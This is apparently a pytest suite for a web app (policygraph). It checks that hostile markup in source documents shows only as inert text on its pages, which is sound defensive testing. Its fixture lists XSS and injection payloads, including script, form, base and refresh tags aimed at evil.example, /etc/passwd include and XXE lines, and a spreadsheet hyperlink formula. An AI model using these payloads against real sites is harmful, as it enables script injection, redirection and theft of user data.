"""Sources with hostile markup: pages show what is read as text, and nothing of it is active there."""

from __future__ import annotations

import asyncio
import hashlib
import json
import re
from functools import partial
from html.parser import HTMLParser
from pathlib import Path

import pyoxigraph as ox
import pytest

from policygraph.errors import PolicygraphError
from policygraph.pipeline.build import build
from policygraph.release import Release
from policygraph.web.pages.rendering import STEERING, render
from policygraph.web.pages.views.about import about, source_page
from policygraph.web.pages.views.actions import action_list, action_timeline
from policygraph.web.pages.views.home import home
from policygraph.web.pages.views.search import search_page
from policygraph.web.pages.views.strategies import strategy_list, strategy_page
from policygraph.web.pages.views.thing import thing
from policygraph.web.viewmodels.context import PageContext
from visiting import TODAY, Asked, moved

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script that ends another": "</script><script src=https://evil.example/x.js></script>",
    "an event on an image": '<img src=x onerror="alert(1)">',
    "an event on a drawing": "<svg/onload=alert(1)>",
    "an attribute that ends": '" autofocus onfocus="alert(1)" x="',
    "an attribute that ends singly": "' onmouseover='alert(1)",
    "an address that is a script": '<a href="javascript:alert(1)">verder</a>',
    "an address with a tab": '<a href="java&#9;script:alert(1)">verder</a>',
    "a page of data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "a form": '<form action="https://evil.example/"><input name=q></form>',
    "another base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a style": "<style>body{display:none}</style><p style=position:fixed>",
    "an entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "a comment": "<!-- --!><script>alert(1)</script> -->",
    "a template": "{{ config }} {% include '/etc/passwd' %} {# x #}",
    "text turned round": "\u202eevil\u202c \u2066isolated\u2069 \u200fmark",
    "separators of lines": "eerst\u2028tweede\u2029derde",
    "a control character": "\x1b[31mrood\x1b[0m \x08\x08",
    "a huge word": "x" * 20_000,
    "a cell that counts": '=HYPERLINK("https://evil.example/";"open") <!ENTITY x SYSTEM \'file:///etc/passwd\'>',
}
REFUSED = {
    "a null byte": b"\0",
    "bytes of no character": b"\xff\xfe",
}
ANNEX = """ Bijlage 3: Acties

Acties van de Commissie Streefdatum

Robotica

Vlaggenschipinitiatief

Een netwerk oprichten {}.

Vierde kwartaal 2026
"""
SOURCE = """
celex = "52099DC{number:04}"
id = "COM-2099-{number}"
identifier = "COM(2099) {number}"
date = 2026-01-08
type = "COMMUNIC"
author = "COM"
address = "http://publications.europa.eu/resource/celex/52099DC{number:04}"
licence = "COM_REUSE"
rights = "© European Union"
title = {{ nl = {title} }}

[[file]]
name = "nl.txt"
language = "nl"
sha256 = "{sha256}"
"""


def write_source(folder: Path, number: int, text: bytes, title: str) -> Path:
    """A source whose title is hostile, too, as far as TOML can say it."""
    folder.mkdir()
    (folder / "nl.txt").write_bytes(text)
    sha256 = hashlib.sha256(text).hexdigest()
    told = SOURCE.format(number=number, title=json.dumps(title, ensure_ascii=True), sha256=sha256)
    (folder / "source.toml").write_text(told, "utf-8")
    return folder


class ActiveContent(HTMLParser):
    """What a browser would do on its own, or on a click, that pages of ours never ask for."""

    ELEMENTS = frozenset({"iframe", "object", "embed", "base", "style", "frame", "applet", "img", "template"})

    def __init__(self, text: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.words: list[str] = []
        self._data = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self._data = tag == "script" and values.get("type") == "application/ld+json"
        wrong = [name for name in values if name.startswith("on") or name in ("style", "srcdoc", "formaction")]
        wrong += [tag] if tag in self.ELEMENTS or (tag == "meta" and "http-equiv" in values) else []
        if tag == "script" and not self._data and not values.get("src", "").startswith("/static/"):
            wrong.append("script")
        for name in ("href", "src", "action", "xlink:href"):
            address = re.sub(r"[\s\x00-\x1f]", "", values.get(name, "")).lower()
            other = re.match(r"(?!https?:|webcal:)[a-z][a-z0-9+.-]*:", address)
            if other or "evil.example" in address.partition("?")[0]:
                wrong.append(f"{name}={address[:60]}")
        self.active += [f"<{tag}> {one}" for one in wrong]

    def handle_endtag(self, tag: str) -> None:
        self._data = self._data and tag != "script"

    def handle_data(self, data: str) -> None:
        if self._data:
            json.loads(data)
        self.words.append(data)


@pytest.fixture(scope="module")
def release(tmp_path_factory: pytest.TempPathFactory) -> Release:
    """One release of them all."""
    folder = tmp_path_factory.mktemp("hostile")
    sources = [
        write_source(folder / f"source-{number}", number, ANNEX.format(words).encode(), f"{name}: {words[:200]}")
        for number, (name, words) in enumerate(HOSTILE.items(), 1)
    ]
    assert build(sources, folder / "release").manifest
    return Release.open(folder / "release")


@pytest.fixture(scope="module")
def visit(release: Release) -> PageContext:
    store = ox.Store()
    store.bulk_load(path=str(release.canonical), format=ox.RdfFormat.N_QUADS)
    return PageContext(Asked(store), today=TODAY, release=release)


def test_what_is_active_is_seen() -> None:
    """The same words, sent as they are, would be found: so the other tests can fail."""
    harmless = {"an entity", "a template", "a control character", "a huge word", "a cell that counts"}
    harmless |= {"an attribute that ends", "an attribute that ends singly"}  # only inside an element
    harmless |= {"text turned round", "separators of lines", "a comment"}
    active = {name for name, words in HOSTILE.items() if ActiveContent(words).active}
    assert active == set(HOSTILE) - harmless
    assert ActiveContent(f'<input value="{HOSTILE["an attribute that ends"]}">').active
    assert ActiveContent(f"<input value='{HOSTILE['an attribute that ends singly']}'>").active
    assert steering(HOSTILE["text turned round"]) and steering(HOSTILE["a control character"])


def steering(text: str) -> set[str]:
    """Characters on a page that turn text round or steer a display."""
    return STEERING & set(text)


@pytest.mark.slow
@pytest.mark.parametrize("language", ["en", "nl"])
def test_nothing_of_a_source_is_active_on_a_page(release: Release, visit: PageContext, language: str) -> None:
    keys = [f"COM-2099-{number}" for number in range(1, len(HOSTILE) + 1)]
    views = [
        *(("/", home), ("/actions", action_list), ("/timeline", action_timeline)),
        *(("/strategies", strategy_list), ("/about", about), ("/search?q=netwerk", search_page)),
        *((f"/strategy/{key}", partial(strategy_page, key=key)) for key in keys),
        *((f"/source/{key}/nl", partial(source_page, document_id=key, language="nl")) for key in keys),
        *(
            (f"/id/action/{key}/A3-001.html", partial(thing, iri=f"{release.base}id/action/{key}/A3-001"))
            for key in keys
        ),
    ]
    assert len(HOSTILE) >= 20
    for address, view in views:
        context = moved(PageContext(visit.view, language=language, today=TODAY, release=release), address)
        text = render(asyncio.run(view(context)), context)
        parsed = ActiveContent(text)
        assert parsed.active == [], address
        assert steering(text) == set(), address


@pytest.mark.slow
def test_hostile_words_are_shown_as_they_are(release: Release, visit: PageContext) -> None:
    for number, (name, words) in enumerate(HOSTILE.items(), 1):
        iri = f"{release.base}id/action/COM-2099-{number}/A3-001"
        context = moved(visit, f"/id/action/COM-2099-{number}/A3-001.html")
        shown = "".join(ActiveContent(render(asyncio.run(thing(context, iri)), context)).words)
        plain = "".join(f"U+{ord(char):04X}" if char in STEERING else char for char in words)
        assert " ".join(plain.split()) in " ".join(shown.split()), name


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_text_is_refused_with_its_place(name: str, tmp_path: Path) -> None:
    text = ANNEX.encode().replace(b"{}", b"voor " + REFUSED[name] + b" robots")
    source = write_source(tmp_path / "source", 1, text, "Een strategie")
    with pytest.raises(PolicygraphError, match=r"nl\.txt"):
        build([source], tmp_path / "release")
    assert not (tmp_path / "release").exists()
